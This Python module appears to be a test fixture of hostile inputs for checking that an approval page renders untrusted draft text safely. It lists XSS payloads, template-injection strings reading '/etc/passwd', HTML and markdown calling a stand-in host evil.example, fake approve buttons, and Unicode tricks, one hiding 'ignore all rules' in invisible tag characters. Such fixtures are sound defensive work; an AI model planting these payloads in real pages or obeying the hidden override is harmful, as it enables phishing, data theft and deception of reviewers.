"""Texts that a draft may hold to deceive whoever reads it, or the browser that shows it."""

from __future__ import annotations

from typing import Any

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "quote": "' onmouseover='alert(1)",
    "link": '<a href="javascript:alert(1)">approve</a>',
    "style": '<style>@import "http://evil.example/x.css"; *{display:none}</style>',
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "frame": '<iframe src="http://evil.example/"></iframe>',
    "base": '<base href="http://evil.example/">',
    "close": "</textarea></form></main><h1>Already approved</h1>",
    "comment": "--><script>alert(1)</script><!--",
    "template": "{{ config }} {% include '/etc/passwd' %} ${7*7}",
    "htmx": '<div hx-get="http://evil.example/" hx-trigger="load">x</div><div data-commit data-arm="approve">x</div>',
}
MARKDOWN = {
    "image": "![proof](http://evil.example/pixel.png)",
    "link": "[the receipt](http://evil.example/phish)",
    "script": "[x](javascript:alert(1))",
    "data": "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "html": "<img src=http://evil.example/p.png> **bold**",
    "auto": "<http://evil.example/auto> and http://evil.example/bare",
    "reference": "![x][r]\n\n[r]: http://evil.example/ref.png",
}
BUTTONS = {
    "button": '<button formaction="http://evil.example/" name="decision" value="approve">Approve</button>',
    "form": '<form action="http://evil.example/" method="post"><input name="csrf"><button>Reject</button></form>',
    "words": "✓ Approve: pays nothing\n[Approve]  [Reject]",
}
HIDDEN = {
    "override": ("pay \u202e00.0461\u202c now", "U+202E"),
    "isolate": ("amount \u2066640.00\u2069", "U+2066"),
    "zero-width": ("app\u200brove", "U+200B"),
    "joiner": ("re\u200dfund", "U+200D"),
    "tags": ("refund" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"), "U+E0069"),
    "filler": ("safe\u3164", "U+3164"),
    "soft-hyphen": ("re\u00adject", "U+00AD"),
    "separator": ("one\u2028two", "U+2028"),
    "escape": ("red \u001b[31m text", "U+001B"),
    "mark": ("\ufeffplain", "U+FEFF"),
}
HUGE = "A long complaint. " * 12_000
"""As much text as a payload may hold; the page shows the beginning, and says how much more there is."""


def nested(text: str) -> dict[str, Any]:
    """The same text wherever a payload may have one."""
    return {"reply": text, "order": text, "inner": {text[:60]: [text, {"deep": text}]}}
